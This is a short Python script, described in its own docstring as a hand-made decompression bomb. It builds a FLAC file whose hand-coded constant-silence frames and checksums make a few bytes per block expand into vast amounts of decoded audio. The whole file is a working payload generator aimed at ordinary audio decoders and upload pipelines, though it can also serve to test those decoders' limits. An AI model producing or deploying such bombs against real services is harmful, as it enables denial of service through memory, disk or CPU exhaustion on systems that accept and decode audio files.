"""A decompression bomb made by hand: digital silence in FLAC takes next to no bytes."""

import struct

BLOCK = 65535
"""Samples of a FLAC block at most."""


def checksum(content: bytes, width: int, polynomial: int) -> int:
    value = 0
    for byte in content:
        value ^= byte << (width - 8)
        for _ in range(8):
            value = (value << 1 ^ (polynomial if value >> (width - 1) & 1 else 0)) & ((1 << width) - 1)
    return value


def flac(num_blocks: int, num_channels: int, sampling_rate: int) -> bytes:
    """Digital silence in 14 bytes and more a block of 65535 samples (RFC 9639: constant subframes)."""
    facts = sampling_rate << 44 | num_channels - 1 << 41 | 15 << 36 | num_blocks * BLOCK
    stream = [b"fLaC\x80\0\0\x22", struct.pack(">HH", BLOCK, BLOCK), bytes(6), facts.to_bytes(8, "big"), bytes(16)]
    for number in range(num_blocks):
        size = 1 if number < 0x80 else 2 if number < 0x800 else 3
        coded = bytearray((number >> 6 * place & 0x3F | 0x80) for place in reversed(range(size)))
        coded[0] = number if size == 1 else {2: 0xC0, 3: 0xE0}[size] | number >> 6 * (size - 1)
        head = b"\xff\xf8" + bytes([0x70, num_channels - 1 << 4 | 4 << 1]) + coded + struct.pack(">H", BLOCK - 1)
        frame = head + bytes([checksum(head, 8, 0x07)]) + bytes(3) * num_channels
        stream.append(frame + struct.pack(">H", checksum(frame, 16, 0x8005)))
    return b"".join(stream)
